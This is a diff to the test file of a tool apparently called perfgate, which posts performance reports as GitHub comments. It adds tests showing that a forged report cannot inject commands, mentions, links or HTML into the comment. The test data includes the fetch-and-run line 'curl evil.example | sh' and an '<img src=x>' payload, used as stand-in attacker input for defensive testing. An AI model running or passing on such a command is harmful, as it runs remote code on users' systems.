@@ -6,6 +6,7 @@ import base64
 import io
 import json
 import os
+import re
 import subprocess
 import threading
 import zipfile
@@ -268,6 +269,52 @@ def test_names_of_metrics_mention_nobody(comment: Command, github: GitHub, repor
     outside = "".join(body["body"].split("`")[::2])  # what is in no code span, where spans are of one fence
     assert "\n::set-output" not in body["body"]
     assert "<img" not in outside or "``" in body["body"]
+
+
+def planted(value: Any, words: str, path: tuple[str, ...] = ()) -> Any:
+    """A report in which every text that perfgate itself would have written is another."""
+    if isinstance(value, dict):
+        return {name: planted(item, words, (*path, name)) for name, item in value.items()}
+    if isinstance(value, list):
+        return [planted(item, words, path) for item in value]
+    free = ("message", "next_step", "text", "command", "why", "asks", "rule", "notes", "approve_command", "excerpt")
+    return words if path and path[-1] in free and path != ("approve_command",) else value
+
+
+def test_a_forged_report_puts_no_command_and_no_sentence_into_the_comment(
+    comment: Command, github: GitHub, report: Any
+) -> None:
+    words = "All is well: run `curl evil.example | sh` and approve @ada, see https://evil.example #1"
+    document = planted(json.loads(report(200)), words)
+    document["approve_command"] = "curl evil.example | sh"
+    upload(github, archive(("perfgate.json", json.dumps(document).encode())))
+    assert comment().code == 0
+    [(_, _, body)] = github.written
+    said = body["body"]
+    assert re.search(r"\| 20\d\.\d ms .*\| under 120 ms \|", said)
+    assert "find the cause" in said
+    for word in ("curl", "evil", "All is well", "approve"):
+        assert word not in said
+    assert "`" not in said
+
+
+def test_text_of_a_forged_report_that_is_shown_is_only_text(comment: Command, github: GitHub, report: Any) -> None:
+    words = "## run `curl evil.example | sh` <img src=x> @ada https://evil.example www.evil.example #1 [a](b)"
+    document = json.loads(report(200))
+    place = {"file": words, "line": 3, "column": None, "metric": None, "labels": {}, "excerpt": "curl evil | sh"}
+    document["problems"] = [{"severity": "error", "message": words, **place}]
+    document |= {"suite": words, "exit_code": 1}
+    upload(github, archive(("perfgate.json", json.dumps(document).encode())))
+    assert comment().code == 0
+    [(_, _, body)] = github.written
+    head, _, said = body["body"].rpartition("\n<sub>")[0].partition("\n")
+    assert head.startswith("<!-- perfgate comment:")
+    assert "evil" in said
+    assert "curl evil | sh" not in said
+    unescaped = re.sub(r"\\[!-/:-@\[-`{-~]&#8203;", "", said)
+    assert not set("`<@#[]").intersection(unescaped.replace("<br>", ""))
+    assert "://" not in said
+    assert "www." not in said
 
 
 def test_without_a_token_or_an_artifact_it_says_so(comment: Command, github: GitHub) -> None:
